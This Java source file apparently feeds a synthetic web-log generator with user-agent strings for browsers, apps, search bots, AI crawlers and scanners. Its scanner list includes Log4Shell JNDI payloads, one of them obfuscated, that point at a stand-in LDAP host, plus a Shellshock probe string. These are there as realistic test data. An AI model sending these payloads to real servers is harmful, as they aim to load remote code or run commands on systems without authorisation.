package dev.weir.generator;

import java.util.ArrayList;
import java.util.List;

/** User agents as servers see them. */
final class Agents {
    static final String[] BROWSERS = browsers();

    static final String[] APPS = {
        "okhttp/4.12.0",
        "ExampleShop/5.8.1 (iPhone; iOS 18.1; Scale/3.00)",
        "ExampleShop/412 CFNetwork/1568.200.51 Darwin/24.1.0",
        "ExampleShop/5.8.0 (Linux; U; Android 14; \"Pixel 8\")",
        "python-requests/2.32.3",
        "axios/1.7.7",
        "Go-http-client/2.0",
    };

    /** What scanners call themselves; null is nothing at all. */
    static final String[] SCANNERS = {
        null,
        "Mozilla/5.0 zgrab/0.x",
        "python-requests/2.27.1",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "Go-http-client/1.1",
        "curl/7.68.0",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "${jndi:ldap://198.51.100.23:1389/Exploit}",
        "${${lower:j}ndi:${lower:l}dap://203.0.113.99/a}",
        "() { :; }; echo \"vulnerable\"",
    };

    static final Bot[] SEARCH_BOTS = {
        new Bot("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.66."),
        new Bot(
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1;"
                        + " +http://www.google.com/bot.html) Chrome/130.0.6723.91 Safari/537.36",
                "66.249.68."),
        new Bot(
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0;"
                        + " +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
                "157.55.39."),
        new Bot("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "5.255.253."),
        new Bot("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "20.191.45."),
    };

    static final Bot[] AI_CRAWLERS = {
        new Bot(
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
                "20.171.207."),
        new Bot(
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
                "216.73.216."),
        new Bot(
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0;"
                        + " +https://perplexity.ai/perplexitybot)",
                "18.97.9."),
        new Bot("CCBot/2.0 (https://commoncrawl.org/faq/)", "18.97.14."),
        new Bot(
                "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36"
                        + " (compatible; Bytespider; spider-feedback@bytedance.com)",
                "47.128.40."),
    };

    static final Bot MONITOR =
            new Bot("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "69.162.124.");

    private Agents() {}

    /** A robot: its user agent and the /24 network that its operator publishes. */
    record Bot(String agent, String network) {}

    private static String[] browsers() {
        List<String> agents = new ArrayList<>();
        String[] desktops = {"Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64"};
        for (int version = 126; version <= 131; version++) {
            for (String desktop : desktops) {
                String chrome = "Mozilla/5.0 (" + desktop + ") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" + version
                        + ".0.0.0 Safari/537.36";
                agents.add(chrome);
                agents.add(
                        "Mozilla/5.0 (" + desktop + "; rv:" + version + ".0) Gecko/20100101 Firefox/" + version + ".0");
            }
            agents.add("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
                    + version + ".0.0.0 Safari/537.36 Edg/" + version + ".0.0.0");
            agents.add("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" + version
                    + ".0.0.0 Mobile Safari/537.36");
            agents.add("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko)"
                    + " SamsungBrowser/" + (version - 103) + ".0 Chrome/115.0.0.0 Mobile Safari/537.36");
        }
        for (int minor = 0; minor <= 6; minor++) {
            agents.add("Mozilla/5.0 (iPhone; CPU iPhone OS 17_" + minor + " like Mac OS X) AppleWebKit/605.1.15"
                    + " (KHTML, like Gecko) Version/17." + minor + " Mobile/15E148 Safari/604.1");
            agents.add("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15"
                    + " (KHTML, like Gecko) Version/17." + minor + " Safari/605.1.15");
        }
        return agents.toArray(String[]::new);
    }
}
